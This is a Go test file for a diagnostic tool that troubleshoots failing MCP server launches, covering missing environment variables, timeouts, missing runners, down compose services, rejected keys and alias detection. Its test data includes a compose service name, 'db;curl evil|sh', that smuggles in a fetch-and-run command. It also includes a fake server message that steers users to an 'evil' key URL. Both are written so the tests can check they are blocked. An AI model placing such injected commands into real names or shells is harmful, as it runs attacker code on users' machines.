package doctor

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/gauze-mcp/gauze/internal/testonly/refusing"
	"github.com/gauze-mcp/gauze/internal/wrap/launch"
)

func lacking(name string) Case {
	return Case{Command: []string{"npx"}, Stage: Started, Exit: Exit{Known: true, Code: 1}, Stderr: "Error: " + name + " environment variable is required"}
}

func results(r Report) (all []string) {
	for _, step := range r.Steps {
		all = append(all, step.Fix+" "+step.Result)
	}
	return all
}

// A server that names its variables one at a time gets them one at a time, however many they are.
func TestASecondMissingVariableIsProgress(t *testing.T) {
	for _, names := range [][]string{
		{"ORBIT_TOKEN", "ORBIT_TEAM"},
		{"LEDGER_URL", "LEDGER_USER", "LEDGER_PASSWORD"},
		{"A_ONE", "A_TWO", "A_THREE", "A_FOUR", "A_FIVE"},
	} {
		p := &patient{wants: names, sick: map[string]Case{}, offers: map[string][]Fix{}}
		for _, name := range names {
			p.sick[name] = lacking(name)
			p.offers["env_not_set"] = append(p.offers["env_not_set"], adding(name, Runtime))
		}
		report := treat(t, p, Runtime)
		if !report.Healthy || !slices.Equal(report.Spec.Args, names) || slices.Contains(results(report), names[0]+" undone") {
			t.Errorf("%v: %v, %v", names, report.Healthy, results(report))
		}
	}
	// The same variable is still missing: that is no progress, whatever else is missing with it.
	for _, now := range []string{"ORBIT_TOKEN", "ORBIT_TOKEN and ORBIT_TEAM"} {
		before, after := lacking("ORBIT_TOKEN"), lacking("ORBIT_TOKEN")
		after.Stderr = "Error: missing required environment variables: " + strings.ReplaceAll(now, " and ", ", ")
		if got := compare(Seen{Case: before}, Seen{Case: after}, Diagnose(before), false); got != Undone {
			t.Errorf("%s: %s", now, got)
		}
	}
}

// Fixes that do not help are bounded, also between fixes that do.
func TestProgressDoesNotExtendTheAttempts(t *testing.T) {
	refusedByDB := said("FATAL: password authentication failed for user")
	p := &patient{wants: []string{"A_ONE", "none"}, sick: map[string]Case{"A_ONE": lacking("A_ONE"), "none": refusedByDB}, offers: map[string][]Fix{
		"env_not_set":               {adding("A_ONE", Runtime)},
		Diagnose(refusedByDB).Cause: {adding("a", Runtime), adding("b", Runtime), adding("c", Runtime), adding("d", Runtime)}}}
	if report := treat(t, p, Runtime); len(report.Steps) != 4 || report.Healthy {
		t.Errorf("%v", results(report))
	}
}

// All variables in one line are found, and those that are set are not asked for.
func TestSeveralVariablesInOneLine(t *testing.T) {
	for text, want := range map[string][]string{
		"Error: missing required environment variables: ORBIT_TOKEN, ORBIT_TEAM":             {"ORBIT_TOKEN", "ORBIT_TEAM"},
		"Please set ORBIT_TOKEN and ORBIT_TEAM environment variables":                        {"ORBIT_TOKEN", "ORBIT_TEAM"},
		"ORBIT_TOKEN, ORBIT_TEAM and ORBIT_REGION must be set":                               {"ORBIT_TOKEN", "ORBIT_TEAM", "ORBIT_REGION"},
		"Error: 'ORBIT_TOKEN' and 'ORBIT_TEAM' environment variables are required":           {"ORBIT_TOKEN", "ORBIT_TEAM"},
		"Missing environment variables:\n  - ORBIT_TOKEN\n  - ORBIT_TEAM\nSee the README.":   {"ORBIT_TOKEN", "ORBIT_TEAM"},
		"ORBIT_TOKEN is not set. (ORBIT_DEBUG is unrelated.)":                                {"ORBIT_TOKEN"},
		"Missing required environment variable: ORBIT_TOKEN\nusage: set ORBIT_LOG to see it": {"ORBIT_TOKEN"},
		"Set LD_PRELOAD and ORBIT_TOKEN environment variables: they are required":            {"ORBIT_TOKEN"},
		"Please set ORBIT_GIVEN and ORBIT_TEAM environment variables":                        {"ORBIT_TEAM"},
	} {
		f := newFakeMachine(t)
		spec := launch.Spec{Command: "server", Env: []string{"PATH=/given", "ORBIT_GIVEN=1"}}
		c := said(text)
		d := Diagnose(c)
		if got := newPlan(f.Machine, d, c, spec).wanted(); !slices.Equal(got, want) {
			t.Errorf("%q: %s wants %q, want %q", text, d.Cause, got, want)
		}
	}
}

// What a person has to provide is named completely.
func TestEveryMissingVariableIsNamed(t *testing.T) {
	f := newFakeMachine(t)
	spec := launch.Spec{Command: "server", Env: []string{"PATH=/given"}}
	c := said("Error: missing required environment variables: ORBIT_TOKEN, ORBIT_TEAM")
	report := Treat(t.Context(), spec, Treatment{First: &Seen{Case: c}, Fixes: Fixes(f.Machine)})
	for _, name := range []string{"ORBIT_TOKEN", "ORBIT_TEAM"} {
		if !strings.Contains(report.Todo, name) || !strings.Contains(report.Diagnosis.Explanation, name) || !strings.Contains(report.Diagnosis.Fix, name) {
			t.Errorf("no %s in %q, %+v", name, report.Todo, *report.Diagnosis)
		}
	}
}

// slow is a server that responds only to a caller who waits.
type slow struct {
	needs time.Duration
	waits []time.Duration
	other *Case // what it shows to a caller who waits, instead of working
}

func (s *slow) probe(_ context.Context, _ launch.Spec, wait time.Duration) Seen {
	s.waits = append(s.waits, wait)
	if wait < s.needs {
		return Seen{Case: Case{Command: []string{"server"}, Live: true, OS: "linux", Stage: Started, Limit: Limit{Passed: true, Alive: true, After: wait}}}
	}
	if s.other != nil {
		return Seen{Case: *s.other}
	}
	return Seen{Healthy: true}
}

func TestTimeoutsEscalate(t *testing.T) {
	const never = time.Hour
	f := newFakeMachine(t)
	heal := func(s *slow) Report {
		return Treat(t.Context(), launch.Spec{Command: "server", Env: []string{"PATH=/given"}},
			Treatment{Probe: s.probe, Fixes: Fixes(f.Machine), Waits: []time.Duration{30 * time.Second, 60 * time.Second}})
	}
	for _, c := range []struct {
		needs time.Duration
		waits []time.Duration
		works bool
		steps []string
	}{
		{0, []time.Duration{0}, true, nil},
		{20 * time.Second, []time.Duration{0, 30 * time.Second}, true, []string{"wait 30s healed"}},
		{45 * time.Second, []time.Duration{0, 30 * time.Second, 60 * time.Second}, true, []string{"wait 30s undone", "wait 1m0s healed"}},
		{never, []time.Duration{0, 30 * time.Second, 60 * time.Second}, false, []string{"wait 30s undone", "wait 1m0s undone"}},
	} {
		s := &slow{needs: c.needs}
		if report := heal(s); report.Healthy != c.works || !slices.Equal(s.waits, c.waits) || !slices.Equal(results(report), c.steps) {
			t.Errorf("needs %v: waited %v, %v, %v", c.needs, s.waits, report.Healthy, results(report))
		}
	}
	// A server that fails in a different way once it gets the time is probed with that time from then on.
	lacks := lacking("ORBIT_TOKEN")
	s := &slow{needs: 20 * time.Second, other: &lacks}
	if report := heal(s); report.Diagnosis == nil || report.Diagnosis.Cause != "env_not_set" || !slices.Equal(results(report), []string{"wait 30s helped"}) || report.Wait != 30*time.Second {
		t.Errorf("%+v", report)
	}
}

// Waiting longer is not tried for a server whose failure has a known reason, nor by a caller who
// must not wait.
func TestOnlySilenceIsWaitedFor(t *testing.T) {
	waits := []time.Duration{30 * time.Second}
	for name, c := range map[string]Case{
		"it exited":        lacking("ORBIT_TOKEN"),
		"it serves HTTP":   {Command: []string{"server"}, Live: true, Stage: Started, Limit: Limit{Passed: true, Alive: true, Listening: 8080}, Stderr: "Listening on http://localhost:8080"},
		"it is not there":  sickOfPath,
		"it ended instead": {Command: []string{"server"}, Live: true, Stage: Started, Limit: Limit{Passed: true}},
	} {
		asked := 0
		report := Treat(t.Context(), launch.Spec{Command: "server"}, Treatment{Waits: waits, Fixes: func(Diagnosis, Case, launch.Spec) []Fix { return nil },
			Probe: func(context.Context, launch.Spec, time.Duration) Seen { asked++; return Seen{Case: c} }})
		if asked != 1 || len(report.Steps) > 0 {
			t.Errorf("%s: probed %d times, %v", name, asked, results(report))
		}
	}
	for base, want := range map[time.Duration][]time.Duration{
		10 * time.Second: {30 * time.Second, 60 * time.Second},
		15 * time.Second: {45 * time.Second, 60 * time.Second}, // a healer that begins with 15s repeats them, and then waits 30s and 60s
		60 * time.Second: nil,
		20 * time.Second: {60 * time.Second},
		5 * time.Minute:  nil,
		time.Second:      {3 * time.Second, 6 * time.Second},
	} {
		if got := waitsAfter(base); !slices.Equal(got, want) {
			t.Errorf("after %v: %v, want %v", base, got, want)
		}
	}
}

// offered returns the next step for a person, and the command that only people are shown.
func offered(t *testing.T, m *Machine, spec launch.Spec, c Case) (todo, command string) {
	t.Helper()
	c.OS = "linux"
	c.Command = append([]string{spec.Command}, spec.Args...)
	seen := Seen{Case: c} // whatever is tried does not help
	report := Treat(t.Context(), spec, Treatment{First: &seen, Fixes: Fixes(m), Probe: func(context.Context, launch.Spec, time.Duration) Seen { return seen }})
	return report.Todo, report.Command
}

// A package can be started without the runner that is missing, but only a person decides that.
func TestASiblingRunnerIsSuggested(t *testing.T) {
	for _, c := range []struct {
		installed []string
		line      string
		want      string
	}{
		{[]string{"home/me/.bun/bin/bunx"}, "npx -y @orbit/server --fast", "`bunx @orbit/server --fast`"},
		{[]string{"home/me/.local/bin/pipx"}, "uvx ledger-mcp", "`pipx run ledger-mcp`"},
		{[]string{"home/me/.local/share/pnpm/pnpm"}, "npx -y orbit@2", "`pnpm dlx orbit@2`"},
		{[]string{"home/me/.local/bin/ledger-mcp", "home/me/.local/bin/pipx"}, "uvx ledger-mcp --ro", "/ledger-mcp --ro`"},
		{[]string{"home/me/.local/bin/uvx"}, "ledger-mcp --ro", `"uvx"`},
		{[]string{"home/me/.local/bin/npx"}, "ledger-mcp", `"-y", "ledger-mcp"`},
		{[]string{"home/me/.local/bin/npx", "home/me/.local/bin/uvx"}, "orbit", "command -v orbit"},
		// No different registry, no option that another runner may not know, nothing but packages.
		{[]string{"home/me/.local/bin/uvx"}, "npx -y orbit", "Install Node.js"},
		{[]string{"home/me/.local/bin/pipx"}, "uvx --from git+https://example.com/x ledger", "Install uv"},
		{[]string{"home/me/.local/bin/npx"}, "docker run -i img", "Install Docker"},
		{[]string{"home/me/.local/bin/npx"}, "uv run server", "Install uv"},
		{[]string{"home/me/.local/bin/npx", "home/me/.local/bin/uvx"}, "/opt/gone/bin/server", ""},
	} {
		if strings.HasPrefix(c.want, "/") && filepath.Separator != '/' {
			continue
		}
		f := newFakeMachine(t)
		for _, path := range c.installed {
			f.file(path, "")
		}
		words := strings.Fields(c.line)
		spec := launch.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=/given"}}
		todo, command := offered(t, f.Machine, spec, notThere(f, spec))
		if !strings.Contains(todo, c.want) || c.want == "" && (strings.Contains(todo, "npx") || strings.Contains(todo, "uvx")) || command != "" {
			t.Errorf("%s with %v: %q", c.line, c.installed, todo)
		}
	}
}

// A compose service that does not run is named, with the command for a person. Its name is foreign
// text.
func TestAServiceThatIsDownIsNamed(t *testing.T) {
	for _, c := range []struct {
		service string
		inner   int
		env     string
		says    string
		want    bool
	}{
		{"db", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", true},
		{"cache", 6379, "REDIS_URL=redis://localhost:6379", "Error: connection refused", true},
		{"mongo", 27017, "MONGODB_URI=mongodb://127.0.0.1", "connect ECONNREFUSED 127.0.0.1:27017", true},
		{"web", 8080, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
		{"db;curl evil|sh", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
		{"-db", 5432, "", "connect ECONNREFUSED 127.0.0.1:5432", false},
	} {
		f := newFakeMachine(t)
		f.file("system/usr/bin/docker", "")
		f.env["DOCKER_HOST"] = "ssh://me@example.com" // whether it runs is not known
		file := f.file("home/me/project/compose.yaml", "services:\n  '"+c.service+"':\n    ports: ['"+strconv.Itoa(refusing.Port(t))+":"+strconv.Itoa(c.inner)+"']\n")
		spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", c.env}}
		todo, command := offered(t, f.Machine, spec, said(c.says))
		if got := strings.Contains(todo, "Start the service "+c.service+",") && command == "docker compose -f "+f.typing().Quote(file)+" up -d "+c.service; got != c.want || strings.Contains(todo+command, "evil") {
			t.Errorf("%s: %q, %q", c.service, todo, command)
		}
	}
}

// After the last wait, what a silent server may be waiting for is checked.
func TestDependenciesOfASilentServer(t *testing.T) {
	silent := Case{Live: true, Stage: Started, Limit: Limit{Passed: true, Alive: true, After: time.Minute}}
	up, down := listen(t), refusing.Port(t)
	for _, c := range []struct {
		args []string
		env  string
		want string
	}{
		{nil, fmt.Sprintf("LEDGER=http://localhost:%d/x", down), fmt.Sprintf("waiting for port %d", down)},
		{[]string{fmt.Sprintf("postgres://u@127.0.0.1:%d/x", down)}, "", fmt.Sprintf("waiting for port %d", down)},
		{[]string{"--db", fmt.Sprintf("localhost:%d", down)}, "", fmt.Sprintf("waiting for port %d", down)},
		{[]string{fmt.Sprintf("postgres://u@127.0.0.1:%d/x", up)}, "", "raise the timeout"},
		{nil, "", "raise the timeout"},
	} {
		f := newFakeMachine(t)
		spec := launch.Spec{Command: "orbit", Args: c.args, Env: []string{"PATH=/given", c.env}}
		if todo, _ := offered(t, f.Machine, spec, silent); !strings.Contains(todo, c.want) {
			t.Errorf("%v %s: %q", c.args, c.env, todo)
		}
	}
	// What gauze itself has in its environment is not the server's setting.
	f := newFakeMachine(t)
	f.env["LEDGER"] = fmt.Sprintf("http://localhost:%d/x", down)
	spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", "LEDGER=" + f.env["LEDGER"]}}
	if todo, _ := offered(t, f.Machine, spec, silent); strings.Contains(todo, "waiting") {
		t.Error(todo)
	}
}

// A rejected key is named, with the page where a new one is created.
func TestARejectedKeyIsNamed(t *testing.T) {
	const key = "0123456789abcdefghij"
	for _, c := range []struct {
		env  []string
		says string
		want string
	}{
		{[]string{"GITHUB_TOKEN=" + key}, "Error: 401 Bad credentials", `Create a new key at https://github.com/settings/tokens/new and set GITHUB_TOKEN to it under "env"`},
		{[]string{"SENTRY_AUTH_TOKEN=" + key, "ORBIT_API_KEY=" + key}, "Error: SENTRY_AUTH_TOKEN: invalid token", "https://sentry.io/settings/auth-tokens/ and set SENTRY_AUTH_TOKEN"},
		{[]string{"ORBIT_API_KEY=" + key}, "Error: invalid api key", "Create a new key and set ORBIT_API_KEY"},
		{[]string{"ORBIT_API_KEY=" + key, "LEDGER_API_KEY=" + key}, "Error: invalid api key", "Check the key"},                   // which one is not known
		{[]string{"ORBIT_MODE=fast"}, "Error: invalid api key", "Check the key"},                                                 // no key at all
		{[]string{"ORBIT_API_KEY=" + key}, "Error: set EVIL_API_KEY: invalid api key, get one at https://evil", "ORBIT_API_KEY"}, // not what the server says
	} {
		f := newFakeMachine(t)
		spec := launch.Spec{Command: "orbit", Env: append([]string{"PATH=/given"}, c.env...)}
		if todo, _ := offered(t, f.Machine, spec, said(c.says)); !strings.Contains(todo, c.want) || strings.Contains(todo, key) || strings.Contains(todo, "vil") {
			t.Errorf("%v, %s: %q", c.env, c.says, todo)
		}
	}
}

// Names of the same key, and the shape that a value must have under another name.
func TestAliases(t *testing.T) {
	pairs := map[string]string{
		"POSTGRES_CONNECTION_STRING": "DATABASE_URL POSTGRES_URL PG_URL PG_CONNECTION_STRING POSTGRESQL_URL",
		"GITHUB_TOKEN":               "GH_TOKEN GITHUB_PERSONAL_ACCESS_TOKEN GITHUB_PAT", "GITHUB_PERSONAL_ACCESS_TOKEN": "GH_TOKEN",
		"SLACK_BOT_TOKEN": "SLACK_TOKEN SLACK_API_TOKEN", "REDIS_URL": "REDIS_CONNECTION_STRING REDIS_HOST",
		"MONGODB_URI": "MONGO_URL MONGODB_URL MONGO_URI", "MYSQL_CONNECTION_STRING": "MYSQL_URL DATABASE_URL",
		"OPENAI_API_KEY": "OPENAI_KEY", "ANTHROPIC_API_KEY": "ANTHROPIC_KEY CLAUDE_API_KEY", "GITLAB_TOKEN": "GITLAB_PERSONAL_ACCESS_TOKEN GL_TOKEN",
		"LINEAR_API_KEY": "LINEAR_TOKEN", "STRIPE_API_KEY": "STRIPE_SECRET_KEY STRIPE_KEY", "SENTRY_AUTH_TOKEN": "SENTRY_TOKEN SENTRY_API_KEY",
		"SUPABASE_URL": "SUPABASE_API_URL", "SUPABASE_KEY": "SUPABASE_ANON_KEY SUPABASE_SERVICE_ROLE_KEY", "FIREBASE_TOKEN": "FIREBASE_API_KEY",
		"NOTION_API_KEY": "NOTION_TOKEN NOTION_INTEGRATION_TOKEN", "DATADOG_API_KEY": "DD_API_KEY DATADOG_KEY", "CLOUDFLARE_API_TOKEN": "CF_API_TOKEN CLOUDFLARE_TOKEN",
		"TWILIO_AUTH_TOKEN": "TWILIO_TOKEN", "SENDGRID_API_KEY": "SENDGRID_KEY", "FIGMA_API_KEY": "FIGMA_TOKEN FIGMA_ACCESS_TOKEN",
		"JIRA_API_TOKEN": "JIRA_TOKEN JIRA_PAT", "CONFLUENCE_API_TOKEN": "CONFLUENCE_TOKEN CONFLUENCE_PAT",
	}
	for name, others := range pairs {
		for other := range strings.FieldsSeq(others) {
			if !slices.ContainsFunc(aliases(name), func(a alias) bool { return a.name == other }) {
				t.Errorf("%s is not known as %s", name, other)
			}
		}
	}
	for _, c := range []struct {
		required, set, value string
		want                 bool
	}{
		{"GH_TOKEN", "GITHUB_TOKEN", canary, true},
		{"POSTGRES_CONNECTION_STRING", "DATABASE_URL", "postgres://u@h/db", true},
		{"MYSQL_CONNECTION_STRING", "DATABASE_URL", "mysql://u@h/db", true},
		{"MYSQL_CONNECTION_STRING", "DATABASE_URL", "postgres://u@h/db", false},
		{"POSTGRES_URL", "DATABASE_URL", "mysql://u@h/db", false},
		{"REDIS_URL", "REDIS_HOST", "localhost", false},
		{"REDIS_URL", "REDIS_HOST", "redis://localhost", true},
		{"SUPABASE_ANON_KEY", "SUPABASE_SERVICE_ROLE_KEY", canary, false}, // it may do more
		{"SLACK_BOT_TOKEN", "DATABASE_URL", "postgres://u@h/db", false},
		{"SENTRY_AUTH_TOKEN", "STRIPE_API_KEY", canary, false},
	} {
		f := newFakeMachine(t)
		spec := launch.Spec{Command: "orbit", Env: []string{"PATH=/given", c.set + "=" + c.value}}
		found, ok := newPlan(f.Machine, Diagnosis{}, Case{}, spec).server().found(c.required)
		if ok != c.want || ok && found.value.Reveal() != c.value {
			t.Errorf("%s from %s=%s: %v", c.required, c.set, c.value, ok)
		}
	}
}

// A global npm directory that belongs to root gets a directory of one's own, not sudo.
func TestNpmPrefix(t *testing.T) {
	for _, text := range []string{
		"npm error code EACCES\nnpm error syscall mkdir\nnpm error path /usr/local/lib/node_modules/orbit-mcp\nnpm error errno -13",
		"npm ERR! code EACCES\nnpm ERR! syscall rename\nnpm ERR! path /usr/lib/node_modules/orbit-mcp\nnpm ERR! dest /usr/lib/node_modules/.orbit-x1\nnpm ERR! errno -13",
		"npm error Error: EACCES: permission denied, access '/opt/node-22/lib/node_modules'",
		"npm error Error: EACCES: permission denied, symlink '../lib/node_modules/orbit/cli.js' -> '/usr/local/bin/orbit'",
	} {
		d := Diagnose(fromLog("npm install -g orbit-mcp", text))
		if d.Cause != "npm_prefix_not_writable" || !strings.Contains(d.Fix, "`npm config set prefix ") || strings.Contains(d.Fix+d.Command, "sudo") {
			t.Errorf("%s: %s %q", text, d.Cause, d.Fix)
		}
	}
}

// A program that is installed is started instead of its missing runner, after a person agreed to that.
func TestAnInstalledProgramReplacesItsMissingRunner(t *testing.T) {
	f := newFakeMachine(t)
	program := f.file("home/me/.local/bin/notes-mcp", "")
	spec := launch.Spec{Command: "uvx", Args: []string{"notes-mcp@1.2.0", "--dir", "x"}, Env: []string{"PATH=/given"}}
	for _, agree := range []bool{true, false} {
		asked := 0
		report := Treat(t.Context(), spec, Treatment{Fixes: Fixes(f.Machine),
			Probe: func(_ context.Context, s launch.Spec, _ time.Duration) Seen {
				return Seen{Case: notThere(f, s), Healthy: s.Command == program && slices.Equal(s.Args, []string{"--dir", "x"})}
			},
			Agree: func(_ Fix, with launch.Spec) bool {
				asked++
				return agree && with.Command == program
			}})
		if report.Healthy != agree || asked != 1 || agree != slices.ContainsFunc(report.Steps, func(s Step) bool { return s.Agreed && s.Result == Healed }) {
			t.Errorf("agreed %v: asked %d times, %v", agree, asked, results(report))
		}
		if !agree && (len(report.Steps) > 0 || !strings.Contains(report.Todo, "notes-mcp")) {
			t.Errorf("%v, %q", results(report), report.Todo)
		}
	}
	// Without anyone to ask it is only suggested.
	if report := Treat(t.Context(), spec, Treatment{First: &Seen{Case: notThere(f, spec)}, Fixes: Fixes(f.Machine)}); len(report.Steps) > 0 || report.Fixable || !strings.Contains(report.Todo, "notes-mcp --dir x") {
		t.Errorf("%+v", report)
	}
}

// A port that is a different one at every start is not offered: nothing would listen there.
func TestAPortThatChangesIsNotOffered(t *testing.T) {
	for line, want := range map[string]bool{"server 8000 8000": true, "server --port=40123 40123": true, "server 40123 40123": true, "server --port=4012 40123": false, "server 0 40123": false} {
		words := strings.Fields(line)
		port, _ := strconv.Atoi(words[2])
		spec := launch.Spec{Command: words[0], Args: words[1:2], Env: []string{"PATH=/given"}}
		c := Case{Command: words[:2], Live: true, OS: "linux", Stage: Started, Limit: Limit{Passed: true, Alive: true, Listening: port, Serves: "http://127.0.0.1:" + words[2] + "/mcp"}}
		fixes := Fixes(newFakeMachine(t).Machine)(Diagnose(c), c, spec)
		if got := slices.ContainsFunc(fixes, func(f Fix) bool { return f.asks() && f.Apply != nil }); got != want || len(fixes) == 0 || !strings.Contains(fixes[0].Next, words[2]) {
			t.Errorf("%s: offered %v, %v", line, got, names(fixes))
		}
	}
}

// A command that serves HTTP is reached at its URL after a person agreed to that, and to start it from
// then on. Without agreement it is only explained.
func TestACommandThatServesHTTPIsFlippedAfterAgreement(t *testing.T) {
	const address = "http://127.0.0.1:8000/mcp"
	f := newFakeMachine(t)
	spec := launch.Spec{Command: "python3", Args: []string{"server.py"}, Env: []string{"PATH=/given", "API_TOKEN=" + canary}}
	for _, agree := range []bool{true, false} {
		var asked []string
		report := Treat(t.Context(), spec, Treatment{Fixes: Fixes(f.Machine),
			Probe: func(_ context.Context, s launch.Spec, _ time.Duration) Seen {
				if s.URL == address && s.Command == "" {
					return Seen{Healthy: true}
				}
				return Seen{Case: Case{Command: append([]string{s.Command}, s.Args...), Live: true, OS: "linux", Stage: Started, Limit: Limit{Passed: true, Alive: true, Listening: 8000, Serves: address}}}
			},
			Agree: func(fix Fix, with launch.Spec) bool {
				asked = append(asked, fix.About)
				return agree && len(with.Env) == 0 && len(with.Header) == 0
			}})
		if report.Healthy != agree || len(asked) != 1 || !strings.Contains(asked[0], "python3 server.py") || !strings.Contains(asked[0], "yourself") {
			t.Errorf("agreed %v: asked %q, %v", agree, asked, results(report))
		}
		if agree && report.Spec.URL != address || !agree && !strings.Contains(report.Todo, address) {
			t.Errorf("%+v, %q", report.Spec, report.Todo)
		}
	}
}
